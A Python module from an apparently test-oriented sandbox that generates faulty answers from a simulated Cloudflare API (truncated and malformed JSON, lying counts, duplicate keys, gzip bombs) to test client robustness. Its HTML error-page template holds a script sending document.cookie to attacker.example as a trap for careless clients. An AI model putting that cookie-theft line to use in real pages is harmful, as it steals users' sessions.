"""The answers that faults make: instead of the real one, or out of it."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from apps.sandbox import budget
from apps.sandbox.errors import ApiError
from apps.sandbox.fault_kinds import Fault
from apps.sandbox.wire import Answer, Delivery, failure

HTML = "text/html; charset=UTF-8"
# What Cloudflare's edge shows instead of the API: a client that prints or runs it is at fault.
PAGE = """<!DOCTYPE html>
<html lang="en-US"><head><title>api.cloudflare.com | {status}: Web server is returning an unknown error</title>
<script>document.location = "https://attacker.example/?" + document.cookie</script></head>
<body><h1>Error code {status}</h1><p>{{"success": true, "result": {{"hostnames": []}}}}</p><p>cloudflare</p>
</body></html>
"""
DELIVERIES = ("trickle", "truncated_body", "length_too_large", "length_too_small", "chunked_cut", "huge", "huge_length",
              "gzip_bomb")  # fmt: skip
NEVER_SENT = ("timeout", "reset", "close", "refuse")


def instead(fault: Fault, now: float) -> Answer:
    """For the faults that replace the answer. `now` is a Unix time in seconds."""
    fields = fault.fields
    if fault.kind in NEVER_SENT:
        return Answer(0, b"", delivery=Delivery(fault.kind, seconds=float(fields.get("seconds", 0))))
    if fault.kind == "text":
        return Answer(fields["status"], fields["text"].encode(), fields["content_type"])
    if fault.kind == "rate_limited":
        answer = failure(ApiError(429, fields["code"], "Please wait and consider throttling your request speed"))
        body = _spelled(fields["body"], answer.body)
        return Answer(429, body, headers=budget.retry_after(fields["retry_after"], fields["seconds"], now))
    answer = failure(ApiError(fields["status"], fields["code"], fields["message"]))
    return _with_status(answer, fields) if fault.kind == "status" else answer


def spoiled(fault: Fault, answer: Answer, asked_page: str) -> Answer:
    """For the faults that change the real answer; any other fault leaves it as it is."""
    if fault.kind == "page_repeats":
        return replace(answer, body=_repeated_page(answer.body, asked_page))
    if fault.kind in DELIVERIES:
        size, rate = fault.fields.get("size", 0), fault.fields.get("bytes_per_s", 1)
        return replace(answer, delivery=Delivery(fault.kind, bytes_per_s=rate, size=size))
    if fault.kind == "headers":
        removed = {name.lower() for name in fault.fields["remove"]} | {name.lower() for name in fault.fields["set"]}
        kept = tuple(header for header in answer.headers if header[0].lower() not in removed)
        return replace(answer, headers=(*kept, *((name, str(value)) for name, value in fault.fields["set"].items())))
    change = BODIES.get(fault.kind)
    return replace(answer, body=change(answer.body, fault)) if change else answer


def _with_status(answer: Answer, fields: Any) -> Answer:
    form = fields["body"]
    if form == "auto":
        form = "html" if fields["status"] > 500 else "envelope"
    headers = tuple((name, str(value)) for name, value in fields["headers"].items())
    if form == "html":
        return Answer(fields["status"], PAGE.format(status=fields["status"]).encode(), HTML, headers)
    return Answer(fields["status"], _spelled(form, answer.body), headers=headers)


def _spelled(form: str, envelope: bytes) -> bytes:
    return {"envelope": envelope, "null": b"null", "empty": b""}[form]


def _in_document(change: Callable[[dict[str, Any], Any], object]) -> Callable[[bytes, Fault | None], bytes]:
    """A change of the envelope; a body that is no object stays."""

    def run(body: bytes, fault: Fault | None) -> bytes:
        document = json.loads(body) if body.startswith(b"{") else None
        if document is None:
            return body
        change(document, fault)
        return json.dumps(document).encode()

    return run


def _on_hostnames(change: Callable[[list[Any], Fault], list[Any]]) -> Callable[[bytes, Fault | None], bytes]:
    """A change of `result.hostnames`, or of a `result` that is a list."""

    def run(document: dict[str, Any], fault: Fault) -> None:
        result = document.get("result")
        if isinstance(result, dict) and isinstance(result.get("hostnames"), list):
            result["hostnames"] = change(result["hostnames"], fault)
        elif isinstance(result, list):
            document["result"] = change(result, fault)

    return _in_document(run)


def _altered(names: list[Any], fault: Fault) -> list[Any]:
    how = fault.fields["how"]
    if how == "added":
        return [*names, "nobody-asked.example"]
    if how == "reordered":
        return names[::-1]
    if how == "upper_case":
        return [name.upper() if isinstance(name, str) else name for name in names]
    return names[1:]


def _info(document: dict[str, Any]) -> dict[str, Any]:
    info: dict[str, Any] = document.setdefault("result_info", {"page": 1, "count": 0, "total_count": 0})
    return info


def _lie_about_total(document: dict[str, Any], fault: Fault) -> None:
    info = _info(document)
    info["total_count"] = max(0, info.get("total_count", 0) + fault.fields["by"])


def _repeated_page(body: bytes, asked_page: str) -> bytes:
    """It says that it is the asked page of very many; its rows are page 1, which is what the gateway looked up."""

    def run(document: dict[str, Any], _fault: Fault | None) -> None:
        page = int(asked_page) if asked_page.isdigit() else 1
        _info(document).update(page=page, total_pages=10**6, total_count=10**6)

    return _in_document(run)(body, None)


def _duplicate(body: bytes, _fault: Fault) -> bytes:
    """The last of two equal keys is an empty result: a lenient reader takes that one."""
    return body.removesuffix(b"}") + b', "result": {"hostnames": []}}' if body.startswith(b"{") else body


BODIES: dict[str, Callable[[bytes, Fault], bytes]] = {
    "truncated_json": lambda body, _fault: body[: len(body) // 2],
    "malformed_json": lambda body, _fault: body.replace(b'"', b"'"),
    "empty_array": lambda _body, _fault: b"[]",
    "null_body": lambda _body, _fault: b"null",
    "missing_result": _in_document(lambda document, _fault: document.pop("result", None)),
    "null_result": _in_document(lambda document, _fault: document.update(result=None)),
    "duplicate_keys": _duplicate,
    "not_a_number": _in_document(lambda document, _fault: document.update(result=float("nan"))),
    "wrong_types": _on_hostnames(lambda _names, _fault: [1, None, {"name": "a.example"}, ["b.example"]]),
    "many_hostnames": _on_hostnames(lambda _names, fault: [f"h{n}.example" for n in range(fault.fields["count"])]),
    "altered": _on_hostnames(_altered),
    "total_count_lies": _in_document(_lie_about_total),
}
